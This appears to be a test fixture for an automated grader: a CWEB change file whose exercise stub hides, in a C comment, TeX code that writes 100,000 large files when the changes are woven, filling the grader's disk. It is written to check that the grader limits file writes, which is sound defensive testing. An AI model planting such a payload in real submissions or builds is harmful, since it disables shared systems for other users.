Hostile submission for the grader's self-check: TeX in a comment, which the
woven view of the changes typesets, writes 100,000 files into the folder of
the weave (openout_any=p allows the current folder): without a limit on what
a student's steps may write, a class can fill the grader's disk.
@x
/* Exercise 5: your code here. This stub gives zero weights and a zero context. */
(void) s;
(void) O;
for (int i = 0; i < L; i++) wb[i] = 0.0f;
for (int j = 0; j < H; j++) c[j] = 0.0f;
@y
/* \count255=0 \loop \immediate\openout15=hostile\number\count255.tex
   \immediate\write15{\romannumeral 9000000 } \immediate\closeout15
   \advance\count255 by 1 \ifnum\count255<100000 \repeat */
(void) s;
(void) O;
for (int i = 0; i < L; i++) wb[i] = 0.0f;
for (int j = 0; j < H; j++) c[j] = 0.0f;
@z
